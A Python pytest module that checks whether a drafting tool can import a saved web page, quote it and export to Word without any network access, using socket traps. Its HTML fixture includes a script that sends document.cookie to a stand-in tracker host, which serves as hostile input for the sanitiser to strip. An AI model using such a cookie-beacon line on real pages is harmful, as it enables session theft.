"""Offline, proved: the whole workflow runs with the network made impossible, and never tries it.

Import a saved web page full of remote resources, make a snippet, quote it in
an answer, export to Word — with socket creation and name lookup replaced by
traps that record any attempt and raise. (Pandoc, where citations need it, runs
as a separate process with ``--sandbox``; the traps here cover this process.)
"""

from __future__ import annotations

import socket
import zipfile
from pathlib import Path

import pytest

from drafter.core.export import export_response
from drafter.core.importers import import_file
from drafter.core.responses.operations import (
    add_block,
    add_question,
    create_response,
    set_chosen_option,
)
from drafter.core.responses.records import ResponseDetails
from drafter.core.snippets import snippet_from_quote
from drafter.core.sources import add_imported


@pytest.fixture
def store(engine_store):  # type: ignore[no-untyped-def]
    """This module's tests run on SQLite and on PostgreSQL (``engine_store``, tests/core/conftest.py)."""
    return engine_store


PAGE = """<!doctype html>
<html><head>
<title>Oversight of facial recognition</title>
<link rel="stylesheet" href="https://cdn.example.net/site.css">
<link rel="preload" href="//fonts.example.net/font.woff2">
<script src="https://tracker.example.net/t.js"></script>
<script>fetch("https://tracker.example.net/beacon?u=" + document.cookie)</script>
<meta http-equiv="refresh" content="0; url=https://elsewhere.example.net/">
</head><body>
<article>
<h1>Oversight of facial recognition</h1>
<img src="https://images.example.net/camera.jpg" srcset="https://images.example.net/camera-2x.jpg 2x">
<p>Campaigners said the deployments needed independent oversight before any further expansion.</p>
<iframe src="https://video.example.net/embed/123"></iframe>
<p>The regulator has not yet published guidance on the use of live cameras in public places.</p>
<object data="https://plugins.example.net/x.swf"></object>
<video src="https://video.example.net/clip.mp4" poster="https://images.example.net/poster.jpg"></video>
</article>
</body></html>
"""


@pytest.fixture
def no_network(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Every way this process could reach the network, replaced by a trap."""
    # Imported before the traps are set: importing trafilatura imports urllib3, whose
    # module-level IPv6 probe creates a socket and binds it to ::1 (loopback: nothing
    # leaves the machine, and no connection is made). Everything after is the workflow.
    import trafilatura  # noqa: F401

    attempts: list[str] = []

    def trap(name: str):  # type: ignore[no-untyped-def]
        def refuse(*args: object, **kwargs: object) -> object:
            attempts.append(f"{name}{args!r}")
            raise OSError(f"network use is forbidden in this test ({name})")

        return refuse

    class TrappedSocket(socket.socket):
        # A class, not a function: libraries use socket.socket in annotations at import time.
        def __init__(self, *args: object, **kwargs: object) -> None:
            trap("socket.socket")(*args, **kwargs)

    monkeypatch.setattr(socket, "socket", TrappedSocket)
    monkeypatch.setattr(socket, "create_connection", trap("socket.create_connection"))
    monkeypatch.setattr(socket, "getaddrinfo", trap("socket.getaddrinfo"))
    monkeypatch.setattr(socket, "gethostbyname", trap("socket.gethostbyname"))
    return attempts


def test_import_capture_arrange_export_without_the_network(store, tmp_path: Path, no_network: list[str]) -> None:
    page = tmp_path / "saved page.html"
    page.write_text(PAGE, encoding="utf-8")

    document = import_file(page)
    source = add_imported(store, document)
    assert "independent oversight" in source.text
    for remote in ("tracker.example.net", "fetch(", "images.example.net", "video.example.net"):
        assert remote not in source.text  # shown as text: nothing that could load anything

    snippet = snippet_from_quote(store, source.id, "the deployments needed independent oversight")
    response = create_response(store, ResponseDetails(consultation_title="Biometrics framework",
                                                      organisation="Example Rights Group"))
    question = add_question(store, response.id, label="1", text="Do you agree?",
                            options=["Agree", "Disagree", "Don't know"])
    set_chosen_option(store, question.id, "Disagree")
    add_block(store, question.id, text="Expansion must wait for a legal framework.")
    add_block(store, question.id, kind="quotation", snippet_id=snippet.id)

    result = export_response(store, response.id, tmp_path / "response.docx")

    with zipfile.ZipFile(result.path) as docx:
        body = docx.read("word/document.xml").decode("utf-8")
    assert "the deployments needed independent oversight" in body
    assert no_network == []  # not one attempt, refused or otherwise
